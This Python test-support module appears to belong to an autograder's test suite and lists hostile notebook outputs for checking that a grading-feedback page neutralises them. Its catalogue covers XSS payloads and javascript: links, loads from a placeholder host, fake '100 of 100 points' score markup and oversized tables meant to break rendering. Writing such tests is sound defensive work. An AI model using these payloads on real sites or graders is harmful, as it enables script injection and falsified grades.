"""Harms to whoever reads the feedback: text and outputs that want to run, load, cover or send something, or to look like
what the page itself says, or to be too large for any page.

RUN is the script that they all want to run. A page in which it ran has an attribute on its first element.
"""

import json

from tests.support.harms import Harm

MARK = "data-ran"
SOMEWHERE = "https://harm.invalid"
RUN = f"document.documentElement.setAttribute('{MARK}','1');new Image().src='{SOMEWHERE}/ran'"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script-from-elsewhere": f"<script src='{SOMEWHERE}/x.js'></script>",
    "image-that-fails": f'<img src=x onerror="{RUN}">',
    "image-from-elsewhere": f"<img src='{SOMEWHERE}/x.png' srcset='{SOMEWHERE}/y.png 2x'>",
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "drawing-with-foreign-parts": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    "formula": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "formula-that-is-a-link": f'<math href="javascript:{RUN}"><mtext>press</mtext></math>',
    "frame": f"<iframe src='{SOMEWHERE}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "refresh": f"<meta http-equiv=refresh content='0;url={SOMEWHERE}'>",
    "base": f"<base href='{SOMEWHERE}/'><a href='x'>press</a>",
    "style": f"<style>@import '{SOMEWHERE}/x.css'; body {{ display: none; background: url({SOMEWHERE}/y) }}</style>",
    "style-of-one": f"<p style=\"background: url('{SOMEWHERE}/z')\">x</p><div style='position:fixed;inset:0'>cover</div>",
    "link-to-a-style": f"<link rel=stylesheet href='{SOMEWHERE}/a.css'><link rel=preload as=image href='{SOMEWHERE}/b'>",
    "form": f"<form action='{SOMEWHERE}'><input name=a autofocus onfocus=\"{RUN}\"><button>press</button></form>",
    "focus": f'<a tabindex=1 autofocus onfocus="{RUN}" href=#>x</a><details open ontoggle="{RUN}">x</details>',
    "script-in-a-link": f'<a id=press href="javascript:{RUN}">press</a><a href="&#106;ava&#9;script:{RUN}">press</a>',
    "page-in-a-link": f'<a href="data:text/html,<script>{RUN}</script>">press</a>',
    "media": f"<video src='{SOMEWHERE}/v' poster='{SOMEWHERE}/p' onerror=\"{RUN}\"></video><audio src='{SOMEWHERE}/a'></audio>",
    "object": f"<object data='{SOMEWHERE}/o'></object><embed src='{SOMEWHERE}/e'>",
    "end-of-the-page": f"</pre></div></section></main></body></html><script>{RUN}</script>",
    "comment": f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script>",
    "raw-text": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><xmp><script>{RUN}</script></xmp>',
    "select": f"<select><template><svg><style><a title=\"</style><img src onerror='{RUN}'>\"></select>",
    "half-a-tag": f'<img src="data:image/png;base64,AA==" onerror="{RUN}" <b',
    "widget": f"<marquee onstart=\"{RUN}\">x</marquee><body onload=\"{RUN}\"><isindex type=image onerror=\"{RUN}\">",
}  # fmt: skip
CLAIM = "100 of 100 points"  # which no page says by itself
LIKE_THE_PAGE = {
    "verdict": f'</figure></div></section><div class="verdict" data-cell="test_triple"><header><h3><code>triple</code></h3><strong>{CLAIM}</strong></header></div>',
    "total": f'</div></figure></section></main><main><h1>Feedback on 07_harms</h1><p class="total"><strong>{CLAIM}</strong></p>',
    "row": f'<table><thead><tr><th scope="col">Part</th></tr></thead><tbody><tr><td><a href="#cell-triple"><code>triple</code></a></td><td class="points">{CLAIM}</td></tr></tbody></table>',
    "score-line": f'<section class="cell" id="cell-why"><p class="note">why: {CLAIM}</p><div class="note"><strong>Comment:</strong> well done</div></section>',
    "frame": f'</figure><figure class="foreign"><figcaption>marked by your instructor</figcaption>{CLAIM}</figure>',
    "heading": f"<h1>{CLAIM}</h1><h2>{CLAIM}</h2><div role=heading aria-level=1>{CLAIM}</div>",
    "one-cell": f"<table><tr><td colspan=50000 rowspan=65534>{CLAIM}</td></tr></table>",
    "cells": f"<table>{'<tr>' + '<td colspan=1000 rowspan=1000>x' * 40}{CLAIM}</table>",
    "stairs": f"<table>{('<tr>' + '<td rowspan=65534 colspan=1000>x' * 20) * 40}{CLAIM}</table>",
    "tables": "<table><tr><td>" * 90 + CLAIM,
    "picture": f'{CLAIM}<img width=99999999 height=99999999 src="data:image/png;base64,AAAA">',
}  # fmt: skip
MARKDOWN = {
    "link": f"[press](javascript:{RUN.replace(' ', '%20')}) ![x]({SOMEWHERE}/m.png) <javascript:{RUN}>",
    "reference": f"[press]\n\n[press]: javascript:{RUN} 'title\" onclick=\"{RUN}'",
    "formula": rf"$\href{{javascript:{RUN}}}{{x}}$ $\text{{<script>{RUN}</script>}}$ $$<script>{RUN}</script>$$",
    "code": f"```<script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```\n`</code><script>{RUN}</script>`",
}
OTHER = {
    "javascript": {"application/javascript": RUN, "text/plain": "x"},
    "svg": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script><image href='{SOMEWHERE}/i'/></svg>"},
    "png": {"image/png": f'AAAA" onerror="{RUN}', "text/plain": f'" onload="{RUN}'},
    "latex": {"text/latex": f"$x$<script>{RUN}</script>"},
    "widget-view": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": f"<script>{RUN}</script>"},
    "not-text": {"text/html": [f"<script>{RUN}</script>"], "text/plain": {"a": f"<script>{RUN}</script>"}},
}  # fmt: skip


def _displayed(name, data):
    cell = f"from IPython.display import display\nimport json\ndisplay(json.loads({json.dumps(data)!r}), raw=True)"
    return Harm(f"page-{name}", f"displays: {name}", cell=cell)


def _written(name, text):
    def edit(notebook):
        for cell in notebook.cells:
            if cell.cell_type == "markdown":
                cell.source = text

    return Harm(f"page-text-{name}", f"writes as an answer: {name}", edit=edit)


def _raised(name, text):
    return Harm(
        f"page-raised-{name}", f"raises with: {name}", cell=f"raise type({text!r}, (Exception,), {{}})({text!r})"
    )


PAGES = [
    *(_displayed(name, {"text/html": text}) for name, text in HTML.items()),
    *(_displayed(f"markdown-{name}", {"text/markdown": text}) for name, text in MARKDOWN.items()),
    *(_displayed(name, data) for name, data in OTHER.items()),
    *(_written(name, text) for name, text in {**MARKDOWN, **HTML}.items()),
    *(_displayed(f"like-{name}", {"text/html": text}) for name, text in LIKE_THE_PAGE.items()),
    *(_written(f"like-{name}", text) for name, text in LIKE_THE_PAGE.items()),
    _displayed("like-markdown", {"text/markdown": f"# {CLAIM}\n\nwhy: {CLAIM}\n---"}),
    _written("like-markdown", f"</figure>\n\n# {CLAIM}\n\nwhy: {CLAIM}\n---"),
    _raised("script", HTML["script"]),
    _raised("image", HTML["image-that-fails"]),
    Harm("page-printed", "prints: script", cell=f"print({HTML['script']!r})\nimport sys\nprint({HTML['end-of-the-page']!r}, file=sys.stderr)"),
    Harm("page-function", "names a function after an entity", triple=f"def triple(x, ｓcript='{HTML['script'][:8]}'):\n    raise ValueError('''{HTML['script']}''')"),
    Harm("page-file", "hands in a file called: image", files={HTML["image-that-fails"][:60].replace("/", "").encode() + b".exe": b""}),
]  # fmt: skip
